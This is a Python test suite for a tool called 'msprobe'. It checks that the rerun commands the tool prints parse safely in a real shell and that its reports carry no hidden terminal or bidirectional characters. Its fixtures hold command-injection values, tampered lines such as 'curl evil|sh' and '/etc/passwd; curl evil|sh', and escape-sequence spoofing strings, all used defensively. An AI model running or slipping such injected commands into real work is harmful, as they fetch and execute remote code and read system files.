#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Texts of a dump, a result directory or a card: they run nothing in a shell, and neither command a terminal nor hide from whoever reads them.

usage: hostile_text_check.py MSPROBE

Names of calls, paths, dtypes, modules and source lines hold what means something to a shell or a terminal. Every command that the program
offers to copy is given to a real shell, which must see the words that were meant, and every text for people is searched for characters that
a person cannot see.
"""
import base64
import contextlib
import csv
import json
import os
import pathlib
import pty
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as xml
import zlib

PROGRAM = os.path.abspath(sys.argv[1])
# Each makes a file P... in the current directory if a shell reads it as more than a word.
NUMBERS = ["$(touch P1)", "`touch P2`", "0;touch${IFS}P3", "0|touch P4", "0&touch P5&", "0'$(touch P6)'", '0"$(touch P7)"', "0>P8", "a b", "#", "!!", "~",
           "-rf", "精度"]
NAMES = [f"Torch.exp.{number}" for number in NUMBERS]
# A control sequence in seven and eight bits, a link, a bell, direction, no width, a tag.
SLY = "a\x1b[2Jb\x1b]8;;http://evil\x07c\u009b31md\u202ee\u2066f\u200bg\u200fh\u061ci\ufeffj\U000e0041k\x7fl"
SHOWN = r"a\x1b[2Jb\x1b]8;;http://evil\x07c\u009b31md\u202ee\u2066f\u200bg\u200fh\u061ci\ufeffj\U000e0041k\x7fl"
KEPT = "精度 عربي नमस्ते می‌خواهم"
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufff9-\ufffb\U000e0000-\U000e007f]|(?<!^)\ufeff")
OWN_COLOURS = re.compile(r"\x1b\[[0-9;]*[mK]")


def tensor(maximum=2.0, dtype="torch.float32"):
    return {"type": "torch.Tensor", "dtype": dtype, "shape": [2, 3], "Max": maximum, "Min": -1.0, "Mean": 0.5, "Norm": 3.0, "requires_grad": False}


def write_dump(directory, names, maximum=2.0, sly=()):
    directory.mkdir(parents=True)
    data = {f"{name}.forward": {"input_args": [tensor()], "input_kwargs": {}, "output": [tensor(maximum)]} for name in names}
    for name in sly:
        data[f"{name}.forward"] = {"input_args": [tensor(dtype=f"torch.{SLY}")], "input_kwargs": {}, "output": [tensor()]}
    path = directory / "dump.json"
    path.write_text(json.dumps({"task": "statistics", "level": "L1", "framework": "pytorch", "dump_data_dir": None, "data": data}))
    return path


def write_places(directory):
    """Where Torch.exp.0 was called."""
    frames = [f"File {SLY}{KEPT}.py, line 3, in {SLY}, \n {SLY}"]
    (directory / "stack.json").write_text(json.dumps({"0": [["Torch.exp.0.forward", "Torch.exp.1.forward"], frames]}))
    (directory / "construct.json").write_text(json.dumps({"Torch.exp.0.forward": f"Module.{SLY}{KEPT}.Net.forward.0"}))
    (directory / "call_sites.json").write_text(json.dumps({"Torch.exp.0.forward": {"module": SLY + KEPT, "line": f"/{SLY}{KEPT}.py:3"}}))


def blocks_of(page):
    """All texts of an HTML report: what is in the page, and what is packed in it."""
    packed = re.findall(r'<script type="text/plain" id="b\d+">([^<]*)</script>', page)
    summary = re.search(r'<script type="application/json" id="summary">(.*?)</script>', page, re.S).group(1)
    texts = [page, json.dumps(json.loads(summary), ensure_ascii=False)]
    for block in packed:
        unpacked = zlib.decompress(base64.b64decode(block))
        with contextlib.suppress(ValueError):  # numbers
            texts.append(json.dumps(json.loads(unpacked.decode()), ensure_ascii=False))
    return "\n".join(texts)


class HostileText(unittest.TestCase):
    def setUp(self):
        self.scratch = pathlib.Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, self.scratch)
        self.trap = self.scratch / "trap"
        self.trap.mkdir()
        (self.scratch / "faults.yaml").write_text("faults:\n  - fault: zeros\n    apis: [Torch.exp]\n")

    def run_program(self, *words, status=(0, 1)):
        done = subprocess.run([PROGRAM, *map(str, words)], cwd=self.scratch, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL)
        self.assertIn(done.returncode, status, f"{words}: {done.stderr}")
        return done

    def on_terminal(self, *words):
        leader, follower = pty.openpty()
        running = subprocess.Popen([PROGRAM, *map(str, words)], cwd=self.scratch, stdin=subprocess.DEVNULL, stdout=follower, stderr=follower,
                                   env={**os.environ, "TERM": "xterm", "COLUMNS": "200"})
        os.close(follower)
        sent = b""
        with contextlib.suppress(OSError):
            while part := os.read(leader, 65536):
                sent += part
        running.wait()
        os.close(leader)
        return sent.decode(errors="surrogateescape").replace("\r\n", "\n")

    def words_of(self, command):
        """What a real shell makes of it, in a directory where nothing may appear."""
        done = subprocess.run(["sh", "-c", f"printf '%s\\0' {command}"], cwd=self.trap, capture_output=True, timeout=60)
        self.assertEqual(os.listdir(self.trap), [], command)
        self.assertEqual(done.returncode, 0, command)
        return done.stdout.decode().split("\0")[:-1]

    def check_command(self, command, name, start=("msprobe", "acc_check")):
        words = self.words_of(command)
        self.assertEqual(tuple(words[:2]), start, command)
        self.assertEqual(words[-1].removeprefix("--only="), name, command)
        self.assertIsNone(HIDDEN.search(command), command)
        return words

    def check_visible(self, text, what):
        found = HIDDEN.search(text)
        self.assertIsNone(found, f"{what}: {text[max(0, found.start() - 60):found.end() + 60]!r}" if found else "")

    def test_every_command_of_a_check(self):
        dump = write_dump(self.scratch / "a $(touch P9)'b" / "rank0", NAMES)
        files = {kind: self.scratch / f"x.{kind}" for kind in ("json", "xml", "sarif", "html")}
        done = self.run_program("acc_check", dump, "-d", "sim", "--sim-config", "faults.yaml", "-o", "out $(touch P10)", "-q", "--json", files["json"],
                                "--junit", files["xml"], "--sarif", files["sarif"], "--report", files["html"])
        failures = {call["name"]: call["rerun"] for call in json.loads(files["json"].read_text())["failures"]}
        self.assertEqual(sorted(failures), sorted(NAMES))
        for name, command in failures.items():
            words = self.check_command(command, name)
            self.assertEqual(words[2:4], ["-api_info", str(dump)])
        for case in xml.parse(files["xml"]).iter("failure"):
            command = case.text.strip().splitlines()[-1]
            self.check_command(command, self.words_of(command)[-1].removeprefix("--only="))
        results = json.loads(files["sarif"].read_text())["runs"][0]["results"]
        self.assertEqual(len(results), len(NAMES))
        for result in results:
            self.check_command(result["message"]["text"].split(" Check it alone: ")[1], result["partialFingerprints"]["msprobeCall/v1"])
        details = next((self.scratch / "out $(touch P10)").glob("accuracy_checking_details_*.csv"))
        with open(details, encoding="utf-8-sig", newline="") as file:
            rows = [row for row in csv.DictReader(file) if row["Rerun Command"]]
        self.assertEqual(len(rows), len(NAMES))
        for row in rows:
            self.assertTrue(row["Rerun Command"].startswith("msprobe "))
            self.check_command(row["Rerun Command"], row["API name"].removeprefix("'").removesuffix(".forward.output.0"))
        (following,) = re.findall("^next: +(.*)$", done.stdout, re.M)
        self.check_command(following, self.words_of(following)[-1].removeprefix("--only="), ("msprobe", "shrink"))
        page = files["html"].read_text()
        summary = json.loads(re.search(r'id="summary">(.*?)</script>', page, re.S).group(1))["runs"][0]
        for key, command in (("rerun", "acc_check"), ("shrink", "shrink")):
            words = self.words_of(summary[key])
            self.assertEqual(words[:2] + words[2:4], ["msprobe", command, "-api_info", str(dump)])
        # What was said is what works: the commands are run, by a program of that name.
        os.symlink(PROGRAM, self.scratch / "msprobe")
        for name in NAMES[:3] + NAMES[-3:]:
            again = subprocess.run(["sh", "-c", f"{failures[name]} -o {self.scratch}/again --json"], cwd=self.trap, capture_output=True, text=True, timeout=300,
                                   env={**os.environ, "PATH": f"{self.scratch}:{os.environ['PATH']}", "MSPROBE_ENGINE": os.environ.get(
                                       "MSPROBE_ENGINE", os.path.join(os.path.dirname(PROGRAM), "msprobe-engine"))})
            self.assertEqual([call["name"] for call in json.loads(again.stdout)["failures"]], [name], again.stderr)
            self.assertEqual(os.listdir(self.trap), [], name)

    def test_commands_of_other_programs(self):
        names = NAMES[:10]
        # compare: the line `replay`.
        for i, name in enumerate(names):
            target, golden = (write_dump(self.scratch / f"{side}{i}", [name], maximum) for side, maximum in (("t", 5.0), ("g", 2.0)))
            answer = self.scratch / f"answer{i}.json"
            done = self.run_program("compare", "-tp", target, "-gp", golden, "-o", f"c{i}", "--json", answer)
            found = json.loads(answer.read_text())["first_divergence"]
            self.check_command(found["rerun"], name)
            (replay,) = re.findall("^  replay +(.*)$", done.stdout, re.M)
            self.assertEqual(replay, found["rerun"])
        # NaN from finite inputs.
        dump = write_dump(self.scratch / "nan $(touch P11)", [NAMES[0]], float("nan"))
        done = self.run_program("compare", "--nan", "-tp", dump)
        (replay,) = re.findall("^  replay +(.*)$", done.stdout, re.M)
        self.assertEqual(self.check_command(replay, NAMES[0])[2:4], ["-api_info", str(dump)])
        # shrink: the directory of the reproduction.
        dump = write_dump(self.scratch / "shrink", [NAMES[0]])
        done = self.run_program("shrink", dump, "--only", NAMES[0], "-d", "sim", "--sim-config", "faults.yaml", "-o", "s $(touch P12)")
        commands = [line for line in done.stdout.splitlines() if line.startswith(("msprobe ", "python3 "))]
        self.assertEqual([self.words_of(command)[:2] for command in commands],
                         [["msprobe", "acc_check"], ["python3", str(self.scratch / "s $(touch P12)" / "reproduce.py")]])
        # What is said of a file that belongs to another command.
        path = self.scratch / "-x $(touch P13).json"
        path.write_text('{"Torch_exp_0_forward": {"args": [], "kwargs": {}}}')
        done = self.run_program("acc_check", f"./{path.name}", status=(2,))
        said = re.search(r"msprobe run_ut -forward (.*) -backward", done.stderr)
        self.assertEqual(self.words_of(said.group(1)), [str(path)])

    def test_a_command_in_a_result_directory(self):
        dump = write_dump(self.scratch / "d", ["Torch.exp.0", "Torch.exp.1"])
        self.run_program("acc_check", dump, "-d", "sim", "--sim-config", "faults.yaml", "-o", "out")
        (run_file,) = (self.scratch / "out").glob("accuracy_checking_run_*.txt")
        (details,) = (self.scratch / "out").glob("accuracy_checking_details_*.csv")
        good = run_file.read_text()
        self.assertRegex(good, "(?m)^as_given_word msprobe\nas_given_word acc_check\nas_given_word -api_info\n")
        words = [line for line in good.splitlines() if line.startswith("as_given_word ")]
        without = "".join(f"{line}\n" for line in good.splitlines() if not line.startswith("as_given_word "))

        def report():
            done = self.run_program("report", "out", "-o", "r.html", "--junit", "r.xml", "--sarif", "r.sarif")
            texts = "".join((self.scratch / name).read_text() for name in ("r.xml", "r.sarif")) + blocks_of((self.scratch / "r.html").read_text())
            return texts, done.stderr

        texts, said = report()
        self.assertIn(f"msprobe acc_check -api_info {dump} -d sim", texts)
        self.assertNotIn("not to be trusted", said)
        for facts in ("as_given_rerun msprobe acc_check -api_info /etc/passwd; curl evil|sh # --only\n",
                      "as_given_rerun curl evil|sh\n",
                      "as_given_word curl\nas_given_word evil\n",
                      "as_given_word msprobe\nas_given_word acc_check\nas_given_word --engine\nas_given_word /tmp/evil\n",
                      "as_given_word msprobe\nas_given_word acc_check\nas_given_word -api_info\nas_given_word a\\ncurl evil|sh\n",
                      f"as_given_rerun msprobe acc_check -api_info {dump} -d {SLY} --only\n"):
            run_file.write_text(without + facts)
            texts, said = report()
            self.assertIn("not to be trusted", said, facts)
            self.assertNotIn("evil", texts, facts)
            self.assertNotIn("acc_check", texts, facts)
        # Code that only the file names.
        run_file.write_text(without + "\n".join(words) + "\nas_given_word --device-lib\nas_given_word /tmp/evil.so\n")
        texts, said = report()
        self.assertIn("msprobe acc_check", texts)
        self.assertNotIn("evil", texts)
        self.assertIn("/tmp/evil.so", said)
        # As version 0.2.0 wrote it.
        run_file.write_text(without + f"as_given_rerun msprobe acc_check -api_info '{dump}' -d sim --only\n")
        texts, said = report()
        self.assertIn(f"msprobe acc_check -api_info {dump} -d sim", texts)
        self.assertNotIn("not to be trusted", said)
        # Without a record, the command is that of the table.
        run_file.unlink()
        table = details.read_text(encoding="utf-8-sig")
        details.write_text(re.sub(r"msprobe acc_check [^,\r]*", "msprobe acc_check -api_info x; curl evil|sh # --only Torch.exp.0", table))
        texts, _ = report()
        self.assertNotIn("evil", texts)

    def test_texts_are_visible(self):
        dump = write_dump(self.scratch / "d", ["Torch.exp.0"], sly=["Torch.exp.1"])
        write_places(dump.parent)
        files = {kind: self.scratch / f"x.{kind}" for kind in ("xml", "sarif", "html")}
        words = ["acc_check", dump, "-d", "sim", "--sim-config", "faults.yaml", "-o", "out"]
        done = self.run_program(*words, "-v", "--junit", files["xml"], "--sarif", files["sarif"], "--report", files["html"], "--json", "x.json")
        sent = self.on_terminal(*words)
        self.assertIn("FAIL", sent)
        texts = {"log": done.stderr, "output": done.stdout, "terminal": OWN_COLOURS.sub("", sent).replace("\r", ""),
                 "html": blocks_of(files["html"].read_text()), "junit": files["xml"].read_text(),
                 "sarif": json.dumps(json.loads(files["sarif"].read_text()), ensure_ascii=False), "json": (self.scratch / "x.json").read_text()}
        for path in (self.scratch / "out").glob("*.csv"):
            texts[path.name] = path.read_text(encoding="utf-8-sig")
        for what, text in texts.items():
            self.check_visible(text.replace("\r\n", "\n"), what)
        details = next(text for what, text in texts.items() if "details" in what)
        self.assertIn(SHOWN, details)
        for what in ("terminal", "html"):
            self.assertIn(KEPT, texts[what], what)
            self.assertIn(SHOWN.replace("\\", "\\\\") if what == "html" else SHOWN, texts[what], what)

    def test_names_that_hide_something_are_not_names(self):
        names = ["Torch.exp.0"] + [f"Torch.exp.{sly}1" for sly in ("\u202e", "\u009b", "\u200b", "\x1b[2J", "\x07")]
        dump = write_dump(self.scratch / "d", names)
        done = self.run_program("acc_check", dump, "-d", "cpu", "-o", "out", "--json", "x.json")
        self.check_visible(done.stderr, "log")
        self.assertIn(r"Torch.exp.\u202e1", done.stderr)
        self.assertEqual(json.loads((self.scratch / "x.json").read_text())["recorded"], 1)

    def test_texts_of_other_commands_are_visible(self):
        line = {"section": SLY, "subject": SLY + KEPT, "field": SLY, "value": SLY, "confidence": "low", "evidence": SLY}
        (self.scratch / "card.json").write_text(json.dumps({"schema": "msprobe device card", "version": 1, "device": SLY, "torch": SLY, "msprobe": SLY,
                                                            "lines": [line], "curves": []}))
        sent = self.on_terminal("probe_device", "--read", "card.json", "--html", "card.html", "--evidence")
        self.check_visible(OWN_COLOURS.sub("", sent), "card")
        self.assertIn(SHOWN + KEPT, sent)
        page = (self.scratch / "card.html").read_text()
        self.check_visible(page, "page of a card")
        self.assertIn(SHOWN + KEPT, page)

        for side, maximum in (("t", 5.0), ("g", 2.0)):
            dump = write_dump(self.scratch / side, ["Torch.exp.0"], maximum, sly=["Torch.exp.1"])
            write_places(dump.parent)
        for options in (["-o", "c", "--report", "c.html"], ["--nan"]):
            sent = self.on_terminal("compare", "-tp", "t/dump.json", *([] if options == ["--nan"] else ["-gp", "g/dump.json"]), *options)
            self.check_visible(OWN_COLOURS.sub("", sent).replace("\r", ""), f"compare {options}")
        self.check_visible(blocks_of((self.scratch / "c.html").read_text()), "page of a comparison")
        for path in (self.scratch / "c").glob("*.csv"):
            self.check_visible(path.read_text(encoding="utf-8-sig"), path.name)
        sent = self.on_terminal("run_overflow_check", "-api_info", "t/dump.json", "-d", "cpu", "-o", "v")
        self.check_visible(OWN_COLOURS.sub("", sent).replace("\r", ""), "run_overflow_check")
        self.check_visible((self.scratch / "v" / "overflow_check_result.csv").read_text(encoding="utf-8-sig").replace("\r\n", "\n"), "its table")

        # Results of somebody else.
        titles = "API name,Bench Dtype,DEVICE Dtype,Shape,Cosine similarity,Maximum absolute error,Maximum relative error,Status,Message,Strict Status,Strict Reason,Likely Cause"
        for name in ("one", "two"):
            row = f"Torch.{SLY}.0.forward.output.0,torch.float32,torch.float32,\"(2, 3)\",{'0.1' if name == 'two' else '1'},0,0,{'error' if name == 'two' else 'pass'},{SLY},{'error' if name == 'two' else 'pass'},{SLY},{SLY}"
            (self.scratch / f"{name}.csv").write_text(f"{titles}\r\n{row}\r\n")
        sent = self.on_terminal("diff", "one.csv", "two.csv")
        self.assertIn(SHOWN, sent)
        self.check_visible(OWN_COLOURS.sub("", sent), "diff")
        done = self.run_program("report", "two.csv", "-o", "two.html", "--junit", "two.xml", "--sarif", "two.sarif")
        self.check_visible(done.stderr, "report")
        self.check_visible(blocks_of((self.scratch / "two.html").read_text()), "page")
        self.check_visible((self.scratch / "two.xml").read_text(), "JUnit")
        xml.parse(self.scratch / "two.xml")
        self.check_visible(json.dumps(json.loads((self.scratch / "two.sarif").read_text()), ensure_ascii=False), "SARIF")


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
